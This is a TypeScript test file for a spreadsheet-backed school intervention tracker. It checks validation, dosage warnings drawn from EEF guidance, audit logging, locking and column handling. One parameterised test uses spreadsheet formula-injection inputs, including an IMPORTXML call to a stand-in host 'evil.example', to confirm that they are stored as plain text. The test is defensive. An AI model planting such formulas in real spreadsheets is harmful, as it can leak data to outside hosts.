import {
  editCellAsUser,
  moveColumnAsUser,
  sortSheetRowsAsUser,
} from '../../emulator/src/spreadsheet';
import type { SaveResult } from '../../src/api/contract';
import { setUpEmulator, storedCell, validForm } from '../support/emulator';

const READ = 'SpreadsheetApp.Range.getValues';
const WRITE = 'SpreadsheetApp.Range.setValues';

function writesOf(calls: Record<string, number>): number {
  return Object.entries(calls)
    .filter(([method]) => /\.(set\w*|append\w*|insert\w*|delete\w*|clear\w*)$/.test(method))
    .reduce((sum, [, n]) => sum + n, 0);
}

describe('saving an intervention sheet from the sidebar', () => {
  it('writes one row with every field under its header', () => {
    const emu = setUpEmulator();
    const { value } = emu.scriptRun<SaveResult>('saveIntervention', [validForm()]);
    expect(value.ok).toBe(true);
    const [row] = emu.records('Interventions');
    expect(row).toMatchObject({
      Name: 'Precision teaching: spelling',
      Code: 'PT-SP',
      Lead: 'Ms Amara Okafor',
      'Supported by': 'Mr Tom Reed',
      'Group or individual': 'Group',
      'Length (weeks)': 12,
      'Sessions per week': 3,
      'Minutes per session': 20,
      Location: 'Library',
      'Expected outcome': '8/10 or better in weekly spelling tests',
      Status: 'Planned',
      'Created by': 'senco@school.example',
    });
    expect(row?.['Intervention ID']).toMatch(/^INT-[0-9A-F]{12}$/);
    expect(value.ok && value.id).toBe(row?.['Intervention ID']);
    const start = row?.['Start date'];
    expect(start).toBeInstanceOf(Date);
    expect((start as Date).getFullYear()).toBe(2026);
    expect((start as Date).getMonth()).toBe(10);
    expect((start as Date).getDate()).toBe(30);
  });

  it('costs one read per tab touched and one write per tab changed, under the document lock', () => {
    const emu = setUpEmulator();
    emu.scriptRun('saveIntervention', [validForm()]);
    const calls = emu.calls();
    // Reads: Interventions, Staff, Provision library, Settings, and the Audit log's header row
    // (never the whole log).
    expect(calls[READ]).toBe(5);
    // Writes: the new Interventions row, and its audit rows, each in one batch.
    expect(calls[WRITE]).toBe(2);
    expect(writesOf(calls)).toBe(2 + 1); // + the audit log's chain head
    expect(calls['LockService.Lock.waitLock']).toBe(1);
    expect(calls['LockService.Lock.releaseLock']).toBe(1);
  });

  it('warns about dosage outside EEF guidance, saves anyway, and keeps the warnings in the sheet', () => {
    const emu = setUpEmulator();
    const { value } = emu.scriptRun<SaveResult>('saveIntervention', [
      validForm({
        minutesPerSession: '60',
        sessionsPerWeek: '2',
        lengthWeeks: '26',
        rationale: '',
      }),
    ]);
    expect(value.ok).toBe(true);
    const warnings = value.ok ? (value.warnings ?? []) : [];
    expect(warnings).toHaveLength(4);
    expect(warnings[0]).toMatch(/60 minutes/);
    expect(warnings.join('\n')).toMatch(/2 sessions a week/);
    expect(warnings.join('\n')).toMatch(/26 weeks/);
    expect(warnings.join('\n')).toMatch(/No rationale or evidence base/);
    const stored = String(emu.records('Interventions')[0]?.Warnings);
    expect(stored.split('\n')).toHaveLength(4);
    expect(stored).toMatch(/^• Sessions of 60 minutes/);
  });

  it('uses the dosage bounds the school set on the Settings tab', () => {
    const emu = setUpEmulator();
    const row = emu.values('Settings').findIndex((r) => r[0] === 'Maximum minutes per session');
    editCellAsUser(emu.rt, 'Settings', row + 1, 2, '60');
    const { value } = emu.scriptRun<SaveResult>('saveIntervention', [
      validForm({ minutesPerSession: '60' }),
    ]);
    expect(value.ok && value.warnings).toEqual([]);
  });

  it('notes who created the record, when, and every field it set, in the audit log', () => {
    const emu = setUpEmulator();
    const { value } = emu.scriptRun<SaveResult>('saveIntervention', [validForm()]);
    const id = value.ok ? value.id : '';
    const audit = emu.records('Audit log');
    expect(audit.every((r) => r['Record ID'] === id && r.Who === 'senco@school.example')).toBe(
      true,
    );
    expect(audit.find((r) => r.Field === 'Name')).toMatchObject({
      'Record type': 'Interventions',
      'Old value': '',
      'New value': 'Precision teaching: spelling',
    });
    expect(audit.find((r) => r.Field === 'Start date')?.['New value']).toBe('2026-11-30');
    expect(audit.find((r) => r.Field === 'When')).toBeUndefined();
    expect(audit[0]?.When).toBeInstanceOf(Date);
  });

  it('refuses bad input with a message per field and writes nothing', () => {
    const emu = setUpEmulator();
    const before = emu.values('Interventions');
    const { value } = emu.scriptRun<SaveResult>('saveIntervention', [
      validForm({ name: '', minutesPerSession: '500', startDate: 'next week' }),
    ]);
    expect(value.ok).toBe(false);
    if (!value.ok) {
      expect(value.errors).toEqual({
        name: 'Name of the intervention: this is required',
        minutesPerSession: 'Minutes per session: enter a whole number from 5 to 240',
        startDate: 'Start date: enter a date, like 07/09/2026',
      });
      expect(value.message).toMatch(/Nothing was saved/);
    }
    expect(emu.values('Interventions')).toEqual(before);
    expect(writesOf(emu.calls())).toBe(0);
  });

  it('refuses a lead who is not on the Staff tab', () => {
    const emu = setUpEmulator();
    const { value } = emu.scriptRun<SaveResult>('saveIntervention', [
      validForm({ lead: 'Nobody' }),
    ]);
    expect(value.ok).toBe(false);
    expect(!value.ok && value.errors.lead).toMatch(/"Nobody" is not on the Staff tab/);
    expect(emu.records('Interventions')).toHaveLength(0);
  });

  it.each([
    ['location', '=IMPORTXML("https://evil.example","//a")'],
    ['code', '+SUM(1,2)'],
    ['supportedBy', '-1+2'],
    ['summary', '@import'],
  ])('stores %s typed as %s as text, never as a formula', (field, text) => {
    const emu = setUpEmulator();
    const { value } = emu.scriptRun<SaveResult>('saveIntervention', [validForm({ [field]: text })]);
    expect(value.ok).toBe(true);
    const header = {
      location: 'Location',
      code: 'Code',
      supportedBy: 'Supported by',
      summary: 'Summary',
    }[field]!;
    const cell = storedCell(emu, 'Interventions', 1, header);
    expect(cell?.f).toBeUndefined();
    expect(cell?.v).toBe(text);
  });

  it('tells the user to try again when someone else holds the lock, and writes nothing', () => {
    const emu = setUpEmulator();
    const release = emu.holdLock('document');
    expect(() => emu.scriptRun('saveIntervention', [validForm()])).toThrow(
      /Someone else is saving to the provision map right now/,
    );
    release();
    expect(emu.records('Interventions')).toHaveLength(0);
  });

  it('still writes to the right columns after users sort rows and move columns', () => {
    const emu = setUpEmulator();
    emu.scriptRun('saveIntervention', [validForm({ name: 'Zebra maths' })]);
    emu.scriptRun('saveIntervention', [validForm({ name: 'Alpha reading' })]);
    moveColumnAsUser(emu.state, 'Interventions', 2, 9); // "Name" moved right
    moveColumnAsUser(emu.state, 'Interventions', 1, 5); // the ID column moved too
    const nameColumn = emu.values('Interventions')[0]!.indexOf('Name') + 1;
    sortSheetRowsAsUser(emu.state, 'Interventions', nameColumn, true);
    emu.scriptRun('saveIntervention', [validForm({ name: 'Middle phonics', location: 'Room 4' })]);
    const names = emu.records('Interventions').map((r) => [r.Name, r.Location]);
    expect(names).toEqual([
      ['Alpha reading', 'Library'],
      ['Zebra maths', 'Library'],
      ['Middle phonics', 'Room 4'],
    ]);
  });

  it('gives the form the staff names and today, and says when the workbook is not set up', () => {
    const emu = setUpEmulator();
    const { value } = emu.scriptRun<{ staff: string[]; today: string; workbookReady: boolean }>(
      'getInterventionFormOptions',
    );
    expect(value).toMatchObject({
      staff: ['Mr Tom Reed', 'Ms Amara Okafor'],
      today: '2026-11-23',
      workbookReady: true,
    });
  });
});

describe('names in Lead and Supported by that match nobody on the Staff tab', () => {
  function saved(overrides: Record<string, string>): Extract<SaveResult, { ok: true }> {
    const emu = setUpEmulator();
    const { value } = emu.scriptRun<SaveResult>('saveIntervention', [validForm(overrides)]);
    if (!value.ok) throw new Error(JSON.stringify(value.errors));
    const stored = String(emu.records('Interventions')[0]?.Warnings);
    expect(stored).toBe((value.warnings ?? []).map((w) => `• ${w}`).join('\n'));
    return value;
  }

  it('warns on save, naming each unknown name as typed, and keeps it in the Warnings column', () => {
    const value = saved({ supportedBy: 'Mr Tom Reid (TA), Visiting SALT' });
    expect(value.warnings).toEqual([
      '"Mr Tom Reid (TA)" (supporting) and "Visiting SALT" (supporting) are not on the Staff tab, so they get no reminders about this intervention\'s reviews and their time is left out of its cost: add them with the Staff form, or correct the spelling in Lead or Supported by. Someone from outside the school who should not be on the Staff tab can stay as typed.',
    ]);
  });

  it('matches "Name (role)", case, spaces and accents, for the lead and the supporters', () => {
    const value = saved({
      lead: 'ms amara  okafor (SENCo)',
      supportedBy: 'Mr Tom Reed (TA) and MS AMARA OKAFOR',
    });
    expect(value.warnings).toEqual([]);
  });
});

describe('dosage wording for who is leading', () => {
  it('does not say "for TA-led interventions" to a SENCo leading the sessions', () => {
    const emu = setUpEmulator();
    const { value } = emu.scriptRun<SaveResult>('saveIntervention', [
      validForm({ lead: 'Ms Amara Okafor', minutesPerSession: '60' }),
    ]);
    const warnings = value.ok ? (value.warnings ?? []) : [];
    expect(warnings[0]).toBe(
      'Sessions of 60 minutes are longer than the 15–45 minutes the EEF recommends for structured interventions: pupils lose focus and miss more lessons.',
    );
    const byTa = emu.scriptRun<SaveResult>('saveIntervention', [
      validForm({ lead: 'Mr Tom Reed', supportedBy: '', minutesPerSession: '60' }),
    ]).value;
    expect(byTa.ok && byTa.warnings?.[0]).toMatch(/the EEF recommends for TA-led interventions/);
  });
});
